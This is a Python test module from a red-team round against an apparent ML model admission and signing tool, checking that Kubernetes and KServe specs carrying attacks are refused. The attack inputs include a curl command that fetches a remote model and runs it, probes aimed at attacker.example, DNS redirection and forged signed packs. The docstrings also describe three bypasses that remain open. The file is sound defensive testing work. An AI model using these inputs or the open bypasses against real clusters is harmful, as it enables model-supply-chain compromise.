"""Red team, round 4: attacks on the round-3 fixes, one attacker each.

Every test asserts the SECURE behaviour. Three attacks this round found are closed (their
docstrings say "closed": the ca.crt key at another path, a %-encoded URL in an httpGet
path, `storageUris` alone under a framework key); three remain open and are named in the
issue's closing note, not tested here (the exact ca.crt projection mounted as the model
directory, bare decimal IPv4 shorthand and `http:/host` after a fetcher, a pack that
leaves out a newer failed evaluation).
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest
import yaml

from mlseal.admission import ModelRef, decide_model, load_policy
from mlseal.errors import VerificationError
from mlseal.export.pack import ADMISSION, MANIFEST, MANIFEST_TYPE, POLICY, _tar, verify_pack_bytes
from mlseal.ledger import _jcs, open_ledger
from mlseal.ledger.record import Component, OutputRef, RecordDraft
from mlseal.signing import dsse
from mlseal.signing.trust import load_trust
from tests.export_world import RUN, World, _inp, make_world
from tests.fixtures_admission import SERVER_IMAGE, AdmissionWorld, isvc
from tests.test_redteam_round3 import EVIL_SHA, _denied, _deployment, _pack_members, _records, denied_pack
from tests.test_workload import good, serving_runtime

__all__ = ["denied_pack"]  # the module fixture, reused


# === 1. kube-root-ca.crt ========================================================================

def _ca_volume(src_items: Any, *, extra: list[dict[str, Any]] | None = None, projected: bool = True,
               mount: str = "/var/ca") -> Any:
    def mutate(s: dict[str, Any]) -> None:
        cm: dict[str, Any] = {"name": "kube-root-ca.crt"}
        if src_items is not None:
            cm["items"] = src_items
        vol: dict[str, Any] = ({"name": "ca", "projected": {"sources": [{"configMap": cm}, *(extra or [])]}}
                               if projected else {"name": "ca", "configMap": cm})
        s["volumes"].append(vol)
        s["containers"][0]["volumeMounts"].append({"name": "ca", "mountPath": mount, "readOnly": True})
        s["containers"][0]["args"] = [f"--model-dir={mount}"]
    return mutate


CA = [{"key": "ca.crt", "path": "ca.crt"}]


@pytest.mark.parametrize("variant", ["second_source_all_keys", "second_source_other_key", "plain_configmap",
                                     "plain_configmap_ca_only"])
def test_other_projections_of_the_ca_configmap_are_denied(admission_world: AdmissionWorld, variant: str) -> None:
    """Refused: beside the ca.crt-only source, a second source of the same ConfigMap (all keys,
    or another key), or a plain configMap volume of it."""
    extra: dict[str, list[dict[str, Any]]] = {"second_source_all_keys": [{"configMap": {"name": "kube-root-ca.crt"}}],
             "second_source_other_key": [{"configMap": {"name": "kube-root-ca.crt",
                                                        "items": [{"key": "model.joblib", "path": "m"}]}}]}
    mutate = _ca_volume(CA, extra=extra.get(variant), projected=not variant.startswith("plain"))
    if variant == "plain_configmap":
        mutate = _ca_volume(None, projected=False)
    _denied(admission_world, _deployment(admission_world, mutate))


@pytest.mark.parametrize("items", [
    [{"key": "ca.crt", "path": "model.joblib"}],
    [{"key": "ca.crt", "path": "ca.crt"}, {"key": "ca.crt", "path": "1/model.onnx", "mode": 0o644}],
])
def test_the_ca_key_served_as_the_model_is_denied(admission_world: AdmissionWorld, items: Any) -> None:
    """Closed (was medium-high). The `ca.crt` key itself is writable by a namespace editor:
    replace the ConfigMap's `data` by `binaryData: {ca.crt: <model>}`. The root-CA publisher
    sets `data` back to `{ca.crt: <PEM>}` but keeps `binaryData`, and the API server refuses
    its update (a key may not be in both `data` and `binaryData`), so the model stays and is
    retried, never repaired. The `items`-only-ca.crt rule then exempts a projection that maps
    `ca.crt` to `model.joblib` (or to a server's model directory layout) in a directory the
    server reads as its model. Fix: exempt kube-root-ca.crt only as the ServiceAccount
    admission plugin writes it: items exactly `[{key: ca.crt, path: ca.crt}]` (no mode), in a
    projected volume mounted only at /var/run/secrets/kubernetes.io/serviceaccount, and never
    at a path the server's command line names; otherwise treat it as a configMap."""
    _denied(admission_world, _deployment(admission_world, _ca_volume(items)))


# === 2. name resolution ========================================================================

@pytest.mark.parametrize("where", ["predictor", "transformer", "runtime", "worker"])
@pytest.mark.parametrize("field", ["hostAliases", "nameservers", "searches"])
def test_name_resolution_changes_in_kserve_specs_are_denied(admission_world: AdmissionWorld, where: str,
                                                           field: str) -> None:
    """Refused: hostAliases / dnsConfig nameservers or searches in an InferenceService
    component, a ServingRuntime, or its workerSpec."""
    change: dict[str, Any] = ({"hostAliases": [{"ip": "203.0.113.9", "hostnames": ["localhost"]}]}
                              if field == "hostAliases" else
                              {"dnsPolicy": "None", "dnsConfig": {field: ["203.0.113.9" if field == "nameservers"
                                                                           else "attacker.example"]}})
    if where == "runtime":
        obj = serving_runtime("ServingRuntime", "kserve-sklearnserver", SERVER_IMAGE)
        obj["spec"].update(change)
    elif where == "worker":
        obj = serving_runtime("ServingRuntime", "kserve-sklearnserver", SERVER_IMAGE)
        obj["spec"]["workerSpec"] = {"containers": [{"name": "w", "image": SERVER_IMAGE}], **change}
    else:
        obj = isvc(good(admission_world))
        if where == "transformer":
            obj["spec"]["transformer"] = {"containers": [{"name": "t", "image": SERVER_IMAGE}], **change}
        else:
            obj["spec"]["predictor"].update(change)
    _denied(admission_world, obj)


# === 3. httpGet hooks and probes ===============================================================

@pytest.mark.parametrize("get", [
    {"host": "attacker.example", "port": 443, "scheme": "HTTPS"},
    {"path": "/load", "port": "http", "httpHeaders": [{"name": "X-Model", "value": "https://attacker.example/m"}]},
    {"path": "/load?url=attacker.example/model.joblib", "port": 8080},
    {"path": "/load?url=https%3A%2F%2Fattacker.example%2Fmodel.joblib", "port": 8080},
    {"path": "/load?url=https:%2F%2Fattacker.example/model.joblib", "port": 8080},
])
@pytest.mark.parametrize("where", ["deployment", "isvc"])
def test_http_handlers_naming_a_remote_location_are_denied(admission_world: AdmissionWorld, get: dict[str, Any],
                                                           where: str) -> None:
    """Closed for the percent-encoded URL (was low). The kubelet sends the path as written
    and the server's query parser decodes `https%3A%2F%2Fattacker.example%2F…` to a URL,
    which the location rules never see (no `://`, no `host/`). Fix: percent-decode httpGet
    paths (repeatedly, until stable) before the location rules read them, or deny a query
    in a hook/probe path. The other forms are refused."""
    handler = {"httpGet": get}
    if where == "isvc":
        obj = isvc(good(admission_world))
        obj["spec"]["predictor"]["model"]["readinessProbe"] = handler
    else:
        def mutate(s: dict[str, Any]) -> None:
            s["containers"][0]["lifecycle"] = {"postStart": handler}
        obj = _deployment(admission_world, mutate)
    _denied(admission_world, obj)


# === 4. storageUris / storage ==================================================================

@pytest.mark.parametrize("form", ["model_storage_uris", "model_storage", "second_framework_storage_uris_only",
                                  "transformer_storage_uris"])
def test_second_model_locations_in_component_specs_are_denied(admission_world: AdmissionWorld, form: str) -> None:
    """Closed for `second_framework_storage_uris_only` (was low: KServe refuses a predictor
    with two frameworks, and the Pod gate judges the pod). A framework key holding only
    `storageUris` (none of the container-like keys) is skipped by the inlined-spec filter, so
    its extra locations are never read. Fix: check `storageUris`/`storage` in every dict value
    of a component spec before the container-key filter."""
    obj = isvc(good(admission_world))
    extra = [{"uri": "s3://attacker/m", "mountPath": "/mnt/models/x"}]
    if form == "model_storage_uris":
        obj["spec"]["predictor"]["model"]["storageUris"] = extra
    elif form == "model_storage":
        obj["spec"]["predictor"]["model"]["storage"] = {"key": "k", "path": "attacker/m"}
    elif form == "second_framework_storage_uris_only":
        obj["spec"]["predictor"]["sklearn"] = {"storageUris": extra}
    else:
        obj["spec"]["transformer"] = {"containers": [{"name": "t", "image": SERVER_IMAGE}],
                                      "pytorch": {"storageUris": extra}}
    _denied(admission_world, obj)


# === 5. IPv4 shorthand and other spellings of a remote host ===================================

@pytest.mark.parametrize("url", [
    "0xcb.0.0x71.9/model.joblib",
    "0313.0.0161.011:80/model.joblib",
])
def test_shorthand_remote_hosts_in_a_command_are_denied(admission_world: AdmissionWorld, url: str) -> None:
    """Refused: hex and octal IPv4 shorthand, with or without a port. (Bare decimal shorthand,
    `3405803785/m` or `203.0.29449/m`, and `http:/host/…` with one slash still pass: open,
    named in the issue's closing note.)"""
    def mutate(s: dict[str, Any]) -> None:
        s["containers"][0]["command"] = ["sh", "-c", f"curl -so /tmp/m {url} && exec serve /tmp/m"]
    _denied(admission_world, _deployment(admission_world, mutate))


# === 6. model_stages ===========================================================================

@pytest.mark.parametrize("stage", ["deploy", "process", "evaluate"])
def test_a_non_train_key_minting_a_model_is_denied_without_gates(tmp_path: Path, stage: str) -> None:
    """Refused: with a policy that requires no evaluation (so only model_stages stands), a
    deploy/process/evaluate key's record outputting a new digest from the real model is not a
    model producer."""
    w = make_world(tmp_path / "w")
    recs = _records(w)
    model = recs[w.seqs["train"]].outputs[0]
    forged = OutputRef(name="model", uri="s3://models/forged/model", sha256=EVIL_SHA, media_type=model.media_type)
    with open_ledger(w.url) as led:
        led.append(RecordDraft(stage=stage, component=Component(name=stage), run=RUN,
                               inputs=(_inp("model", model, w.seqs["train"]),), outputs=(forged,)),
                   w.keys[stage], signer_name=stage)
    policy = w.dir / "nogates.yaml"
    policy.write_text(yaml.safe_dump({"trust": "trust.yaml", "ledger": "sqlite:///ledger.db",
                                      "require_stages": ["ingest", "process", "train"], "mode": "enforce"}))
    ref = ModelRef(kind="Pod", name="p", namespace="prod", sha256=EVIL_SHA, uri=forged.uri, where="test")
    with open_ledger(w.url) as led:
        d = decide_model(ref, load_policy(policy), ledger=led)
    assert not d.allowed, f"ATTACK WORKS: a {stage}-key model is admitted"


# === 7. verify-pack check 8 ====================================================================

def _forge(w: World, data: bytes, *, decision: dict[str, Any] | None = None, policy: bytes | None = None,
           drop: int | None = None, evaluation: int | None = None) -> bytes:
    """The pack re-signed by the train key (who may sign packs of train outputs) with its
    admission decision set to allowed, and optionally another policy or a record left out."""
    members = _pack_members(data)
    files = dict(members)
    dec = json.loads(files[ADMISSION])
    dec.update(allowed=True, reasons=[], codes=[], **(decision or {}))
    replace: dict[str, bytes] = {}
    if policy is not None:
        replace[POLICY] = policy
        dec["policy_sha256"] = hashlib.sha256(policy).hexdigest()
    replace[ADMISSION] = json.dumps(dec, indent=2, sort_keys=True).encode() + b"\n"
    gone = {f"mlseal-pack/records/{drop}.entry", f"mlseal-pack/proofs/{drop}.json"} if drop is not None else set()
    body = [(n, replace.get(n, b)) for n, b in members if n != MANIFEST and n not in gone]
    manifest = json.loads(dsse.parse(files[MANIFEST]).payload)
    manifest["members"] = [{"name": n, "size": len(b), "sha256": hashlib.sha256(b).hexdigest()} for n, b in body]
    if drop is not None:
        manifest["records"] = [s for s in manifest["records"] if s != drop]
    if evaluation is not None:
        manifest["evaluation"] = evaluation
    return _tar([(MANIFEST, dsse.sign(w.keys["train"], MANIFEST_TYPE, _jcs.dumps(manifest))), *body])


def _reports_allowed(w: World, forged: bytes) -> bool:
    try:
        return verify_pack_bytes(forged, load_trust(w.trust)).allowed
    except VerificationError:
        return False


def test_verify_pack_refuses_a_plain_flip(denied_pack: tuple[World, bytes]) -> None:
    """Refused: the round-3 flip alone."""
    w, data = denied_pack
    assert not _reports_allowed(w, _forge(w, data))


def test_verify_pack_allowed_with_a_policy_swapped_for_one_without_gates(denied_pack: tuple[World, bytes]) -> None:
    """Refused here only because the evaluation record itself is marked failed. The pack's
    policy is just another member the manifest signer lists: the train key holder may replace
    it by one without `gates` (and the decision's policy_sha256 with it), and check 8 derives
    the verdict from that policy; a model whose evaluation is `ok` but below the real policy's
    gates (an evaluator with laxer gates than admission's) would be reported admitted, and the
    report does not show which policy. Not demonstrated here (this world's evaluation carries
    status failed). Suggested hardening: bind the policy outside the pack signer's control
    (an auditor-passed `--policy` digest) and print its SHA-256 in the report."""
    w, data = denied_pack
    doc = yaml.safe_load(dict(_pack_members(data))[POLICY])
    doc.pop("gates", None)
    doc.pop("evaluation", None)
    assert not _reports_allowed(w, _forge(w, data, policy=yaml.safe_dump(doc).encode()))


@pytest.mark.parametrize("override", [{"mode": "warn"}, {"gates": {}}])
def test_verify_pack_allowed_in_a_namespace_the_signer_picks(denied_pack: tuple[World, bytes],
                                                            override: dict[str, Any]) -> None:
    """Refused here (the evaluation is marked failed, whatever the gates): a policy with a
    namespace override and a decision naming that namespace. Same caveat as the policy swap
    above for an `ok` evaluation below the real gates."""
    w, data = denied_pack
    doc = yaml.safe_load(dict(_pack_members(data))[POLICY])
    doc["namespaces"] = {"sandbox": override}
    forged = _forge(w, data, policy=yaml.safe_dump(doc).encode(), decision={"namespace": "sandbox"})
    assert not _reports_allowed(w, forged)
